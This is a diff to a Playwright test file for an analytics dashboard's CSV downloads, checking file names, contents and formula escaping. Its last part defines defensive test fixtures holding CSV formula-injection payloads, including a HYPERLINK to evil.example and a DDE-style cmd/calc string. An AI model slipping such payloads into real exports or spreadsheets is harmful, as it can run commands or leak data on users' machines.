@@ -5,7 +5,10 @@ tests/artifacts/ (not committed)."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 import threading
 import time
 import urllib.parse
@@ -40,7 +43,14 @@ ARTIFACTS = Path(__file__).parent / "artifacts"
 def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str, Lake]]:
     assert (STATIC / "vendor" / "echarts.min.js").exists(), "ECharts is kept in the repository"
     root = tmp_path_factory.mktemp("dashboard")
-    lake = build_analytics_lake(root, jobs=3_000, seed=3)
+    with served_lake(build_analytics_lake(root, jobs=3_000, seed=3), root) as site:
+        yield site
+
+
+@contextmanager
+def served_lake(lake: Lake, root: Path) -> Iterator[tuple[str, str, Lake]]:
+    """The API and the dashboard over ``lake`` on a free port, with a read key, under a clock stopped
+    STALE_BY after the lake's newest event."""
     now = newest_event(lake) + STALE_BY
     deps = api_deps_for(lake, root, clock=lambda: now)
     _, key = deps.keys.create("read")
@@ -387,8 +397,14 @@ def test_the_page_opens_on_the_overview_and_the_marketplace_view_fits_390_px(
     page.click("#tab-marketplace")
     wait_until(page, "window.vhlake.shown")
     assert "view=marketplace" in page.url and page.is_visible("#board")
+    wait_until(page, f"document.querySelectorAll('#board button.csv').length === {TABLES}")
     page.screenshot(path=str(ARTIFACTS / "dashboard-marketplace-390.png"), full_page=True)
     assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    for button in page.locator(
+        "#board button.csv"
+    ).all():  # every table's CSV button is on screen, none cut off
+        box = button.bounding_box()
+        assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390
 
 
 @pytest.fixture(scope="module")
@@ -548,6 +564,13 @@ def test_the_quality_view_equals_the_tables_shows_examples_as_text_and_replays(
     quarantine_reasons = [r["reason"] for r in answer["reasons"] if r["source"] == "quarantine"]
     assert page.locator("#rejections button.replay").count() == len(quarantine_reasons)
     page.screenshot(path=str(ARTIFACTS / "dashboard-quality.png"), full_page=True)
+    name, rows = download_csv(page, "rejections")
+    assert name == f"vhlake-rejections-{answer['start_date']}_{answer['end_date']}.csv"
+    columns = ["source", "reason", "events", "last_seen", "example", "example_truncated"]
+    assert rows[0] == columns and len(rows) == 1 + len(answer["reasons"])
+    for row, reason in zip(rows[1:], answer["reasons"], strict=True):
+        assert row[:3] == [reason["source"], reason["reason"], str(reason["events"])]
+        assert row[4] == spreadsheet_safe(reason["example"])  # the example as received, never run
 
     page.click('#rejections tr[data-reason="known_marketplace"] button.replay')
     wait_until(page, "document.querySelector('#replay-status').textContent.includes('replayed out')")
@@ -560,6 +583,121 @@ def test_the_quality_view_equals_the_tables_shows_examples_as_text_and_replays(
         r["reason"] for r in api_get(url, keys["admin"], "quality/rejections", days=30, end=end)["reasons"]
     ]
     page.screenshot(path=str(ARTIFACTS / "dashboard-quality-replayed.png"), full_page=True)
+    assert errors == []
+
+
+# -- every table downloads the data behind it as CSV ---------------------------------------------------
+
+TABLES = 5  # the marketplace view's: categories, error types, last hour, alerts, data quality
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(text: str) -> str:
+    """What a CSV cell must hold for ``text``: an apostrophe first when a spreadsheet would run it."""
+    return "'" + text if text.startswith(FORMULA_START) else text
+
+
+def download_csv(page: Any, table: str) -> tuple[str, list[list[str]]]:
+    """Click ``table``'s CSV button and read the file: its name and its rows, header first."""
+    with page.expect_download() as info:
+        page.get_by_role("button", name=f"Download {table.replace('-', ' ')} as CSV").click()
+    download = info.value
+    raw = Path(download.path()).read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")  # BOM, RFC 4180 line ends
+    with io.StringIO(raw.decode("utf-8-sig"), newline="") as text:
+        return download.suggested_filename, list(csv.reader(text))
+
+
+def as_api(cell: str, like: Any) -> Any:
+    """A CSV cell read back as the kind of the API's value ``like`` (an absent value is an empty cell)."""
+    if cell == "":
+        return None
+    if isinstance(like, int | float) and not isinstance(like, bool):
+        return float(cell)
+    return cell
+
+
+def check_csv_equals_api(rows: list[list[str]], columns: list[str], records: list[dict[str, Any]]) -> None:
+    """Header, then every record, each value unformatted (text under the apostrophe rule)."""
+    assert rows[0] == columns
+    expected = [[spreadsheet_safe(r[c]) if isinstance(r[c], str) else r[c] for c in columns] for r in records]
+    assert [
+        [as_api(cell, r[c]) for cell, c in zip(row, columns, strict=True)]
+        for row, r in zip(rows[1:], records, strict=True)
+    ] == expected
+    assert len(rows) == 1 + len(records)
+
+
+def categories_of_gold(lake: Lake, marketplace: str, start: str, end: str) -> list[list[Any]]:
+    """The categories table summed in Python from gold: category, validations, failed, rows processed,
+    busiest first."""
+    gold = pa.table(lake.open(GOLD).to_pyarrow_table()).to_pylist()  # type: ignore[union-attr]
+    first, last = date.fromisoformat(start), date.fromisoformat(end)
+    totals: dict[str, list[int]] = defaultdict(lambda: [0, 0, 0])
+    for g in gold:
+        if g["marketplace"] == marketplace and first <= g["date"] <= last:
+            total = totals[g["category"]]
+            total[0] += g["total_validations"]
+            total[1] += g["failed_validations"]
+            total[2] += g["total_rows_processed"]
+    return sorted(([c, *t] for c, t in totals.items()), key=lambda t: (-t[1], t[0]))
+
+
+CATEGORY_COLUMNS = [
+    "category",
+    "total_validations",
+    "failed_validations",
+    "error_rate",
+    "total_rows_processed",
+    "avg_processing_time_ms",
+]
+ERROR_TYPE_COLUMNS = ["error_type", "occurrences", "jobs", "failed_jobs", "share_of_failed_jobs"]
+
+
+def test_every_table_downloads_all_its_rows_as_csv(site: tuple[str, str, Lake], browser: Any) -> None:
+    url, key, lake = site
+    page, errors = watched_page(browser, height=1400)
+    page.goto(f"{url}/?view=marketplace#key={key}")
+    wait_until(page, "window.vhlake && window.vhlake.shown && window.vhlake.errors")
+    wait_until(
+        page,
+        "document.querySelectorAll('#board button.csv').length === document.querySelectorAll('#board table').length",
+    )
+    assert page.locator("#board table").count() == TABLES
+    m, start, end = (shown(page)[k] for k in ("marketplace", "start", "end"))
+
+    name, rows = download_csv(page, "categories")
+    assert name == f"vhlake-categories-{m}-{start}_{end}.csv"
+    expected = categories_of_gold(lake, m, start, end)
+    cut = page.eval_on_selector_all("#categories tbody tr", "trs => trs.map(tr => tr.cells[0].textContent)")
+    assert len(cut) == 16 and cut[-1] == f"… {len(expected) - 15} more"  # the table shows 15 of them
+    assert [[r[0], int(r[1]), int(r[2]), int(r[4])] for r in rows[1:]] == expected
+    for row, (_, total, failed, _) in zip(rows[1:], expected, strict=True):
+        assert float(row[3]) == pytest.approx(failed / total, rel=1e-12)  # a fraction, not "12.3 %"
+    days = (date.fromisoformat(end) - date.fromisoformat(start)).days + 1
+    performance = api_get(url, key, f"marketplaces/{m}/performance", days=days, end=end)
+    check_csv_equals_api(rows, CATEGORY_COLUMNS, performance["categories"])
+
+    name, rows = download_csv(page, "error-types")
+    errors_shown = page.evaluate("window.vhlake.errors")
+    assert name == f"vhlake-error-types-{m}-{errors_shown['start']}_{errors_shown['end']}.csv"
+    ranked = error_types_of_gold(lake, m, errors_shown["start"], errors_shown["end"], None)
+    assert [[r[0], int(r[1]), int(r[2]), int(r[3])] for r in rows[1:]] == ranked
+    answer = api_errors(url, key, m, days=days, end=end, top=5)
+    check_csv_equals_api(rows, ERROR_TYPE_COLUMNS, answer["error_types"])
+
+    _, rows = download_csv(page, "quality")
+    columns = ["metric", "dimension", "latest_value", "measured_at", "batches"]
+    check_csv_equals_api(rows, columns, api_get(url, key, "quality"))
+    name, rows = download_csv(page, "alerts")
+    assert name.startswith("vhlake-alerts-") and rows == [  # no rule evaluated: the header, no placeholder
+        ["rule", "key", "state", "value", "threshold", "severity", "evaluated_at", "last_notified_at"]
+    ]
+    name, rows = download_csv(page, "realtime")
+    as_of = api_get(url, key, "stats/realtime")["as_of"]
+    assert name == f"vhlake-last-60-minutes-to-{as_of[:10]}T{as_of[11:13]}-{as_of[14:16]}Z.csv"
+    assert len(rows) == 1 and rows[0][0] == "marketplace"  # the clock is weeks past the data: none
+    page.locator("section.tables").screenshot(path=str(ARTIFACTS / "dashboard-csv-buttons.png"))
     assert errors == []
     assert page.evaluate("window.__violations") == []
 
@@ -598,3 +736,82 @@ def test_a_reader_sees_the_quality_view_without_replay_and_it_fits_390_px(
     wait_until(page, f"window.vhlake && window.vhlake.quality && window.vhlake.quality.end_date === {end!r}")
     assert page.evaluate("document.documentElement.scrollWidth") <= 390
     page.screenshot(path=str(ARTIFACTS / "dashboard-quality-390.png"), full_page=True)
+
+
+# Names a spreadsheet would run, or that break a naive CSV writer, put into the lake's events.
+HOSTILE = {
+    "categoria_01": '=HYPERLINK("http://evil.example/?x=1,2","click")\r\nnext',
+    "categoria_02": 'commas, "quotes"\nand a newline',
+    "missing_sku": '@SUM(1+1)*cmd|" /C calc"!A0',
+    "invalid_price": '+"price", wrong\r',
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str, Lake]]:
+    from vhlake.ingest.bronze import BronzeIngestor
+    from vhlake.pipeline.runner import Pipeline
+    from vhlake.samples import SampleSpec, generate_lines
+
+    root = tmp_path_factory.mktemp("hostile")
+    events = []
+    for line in generate_lines(SampleSpec(jobs=800, seed=11))["line"].to_pylist():
+        event = json.loads(line)
+        event["category"] = HOSTILE.get(event["category"], event["category"])
+        payload = event["payload"]
+        if "error_types" in payload:
+            payload["error_types"] = {HOSTILE.get(e, e): n for e, n in payload["error_types"].items()}
+        events.append(json.dumps(event))
+    feed = root / "events.jsonl"
+    feed.write_text("\n".join(events) + "\n")
+    lake = Lake(str(root / "lake"))
+    BronzeIngestor(lake, source_system="test", batch_bytes=1 << 20).ingest_file(feed)
+    Pipeline(lake).run()
+    with served_lake(lake, root) as site:
+        yield site
+
+
+def test_hostile_names_download_as_their_text_and_never_as_formulas(
+    hostile_site: tuple[str, str, Lake], browser: Any
+) -> None:
+    url, key, _ = hostile_site
+    alert = {  # a negative value is a number, not a formula; a key that looks like one is text
+        "rule": "=error_rate_jump",
+        "key": "-1+2",
+        "state": "triggered",
+        "value": -0.25,
+        "threshold": 0.1,
+        "severity": "warning",
+        "evaluated_at": "2026-11-27T10:00:00Z",
+        "last_notified_at": None,
+    }
+    page, errors = watched_page(browser, height=1400)
+    page.route(
+        "**/v1/alerts*",
+        lambda route: route.fulfill(
+            json={"data": [alert], "freshness": {"newest_event_at": None, "lag_seconds": None}}
+        ),
+    )
+    page.goto(f"{url}/?view=marketplace#key={key}")
+    wait_until(page, "window.vhlake && window.vhlake.shown && window.vhlake.errors")
+    wait_until(page, f"document.querySelectorAll('#board button.csv').length === {TABLES}")
+
+    _, rows = download_csv(page, "categories")
+    categories = [r[0] for r in rows[1:]]
+    for original in ("categoria_01", "categoria_02"):
+        assert spreadsheet_safe(HOSTILE[original]) in categories
+    assert "'" + HOSTILE["categoria_01"] in categories  # starts with "=": an apostrophe first
+    assert HOSTILE["categoria_02"] in categories  # nothing to disarm: the text unchanged
+    _, rows = download_csv(page, "error-types")
+    error_types = {r[0] for r in rows[1:]}
+    assert {"'" + HOSTILE["missing_sku"], "'" + HOSTILE["invalid_price"]} <= error_types
+    _, rows = download_csv(page, "alerts")
+    assert rows[1][:4] == ["'=error_rate_jump", "'-1+2", "triggered", "-0.25"]
+
+    page.select_option("#error-category", HOSTILE["categoria_01"])
+    wait_until(page, "window.vhlake.errors.category !== null")
+    name, rows = download_csv(page, "error-types")
+    assert re.fullmatch(r"vhlake-error-types-[\w.-]+\.csv", name)  # the category's text made file-safe
+    assert len(rows) > 1
+    assert errors == []
+    assert page.evaluate("window.__violations") == []
